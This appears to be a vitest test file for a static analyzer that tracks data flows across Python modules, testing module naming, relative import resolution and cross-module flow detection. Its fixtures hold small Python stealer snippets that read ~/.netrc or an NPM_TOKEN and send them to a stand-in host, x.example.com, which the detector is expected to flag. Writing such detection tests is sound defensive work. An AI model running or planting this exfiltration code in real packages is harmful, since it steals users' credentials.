import { describe, expect, it } from "vitest";
import { moduleNames, resolveRelative } from "../../../src/analyzers/python/modules.js";
import { analyze, flowsOf } from "./helpers.js";

describe("module names", () => {
  it("names files the way Python imports them", () => {
    const names = moduleNames(["pkg-1.0/setup.py", "pkg-1.0/mypkg/__init__.py", "pkg-1.0/mypkg/sub/__init__.py", "pkg-1.0/mypkg/sub/util.py", "src/other/__init__.py"]);
    expect(names.get("mypkg")).toBe("pkg-1.0/mypkg/__init__.py");
    expect(names.get("mypkg.sub.util")).toBe("pkg-1.0/mypkg/sub/util.py");
    expect(names.get("setup")).toBe("pkg-1.0/setup.py");
    expect(names.get("other")).toBe("src/other/__init__.py");
    expect(names.has("util")).toBe(false);
  });

  it("resolves relative imports", () => {
    expect(resolveRelative("a.b.c", false, 1, "d")).toBe("a.b.d");
    expect(resolveRelative("a.b.c", false, 2, "")).toBe("a");
    expect(resolveRelative("a.b", true, 1, "x")).toBe("a.b.x");
  });
});

describe("flows across modules", () => {
  it("relative import of a stealer function", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `from .util import steal\nfrom . import net\nnet.send(steal())\n`,
      "pkg/util.py": `import os\ndef steal():\n    return open(os.path.expanduser("~/.netrc")).read()\n`,
      "pkg/net.py": `import urllib.request\ndef send(data):\n    urllib.request.urlopen("https://x.example.com/u", data=data.encode())\n`,
    });
    expect(flowsOf(facts)).toEqual(["netrc@pkg/util.py:3 -> http@pkg/net.py:3 https://x.example.com/u [import]"]);
  });

  it("absolute import of the package's own module and a module-level constant", async () => {
    const facts = await analyze({
      "mypkg/__init__.py": `import mypkg.config as cfg\nfrom mypkg.sender import post\npost(cfg.SECRET)\n`,
      "mypkg/config.py": `import os\nSECRET = os.environ.get("NPM_TOKEN")\n`,
      "mypkg/sender.py": `from requests import post as _p\nURL = "https://x.example.com/" + "t"\ndef post(v):\n    _p(URL, json={"v": v})\n`,
    });
    expect(flowsOf(facts)).toEqual(["env-secret@mypkg/config.py:2 -> http@mypkg/sender.py:4 https://x.example.com/t [import]"]);
  });
});
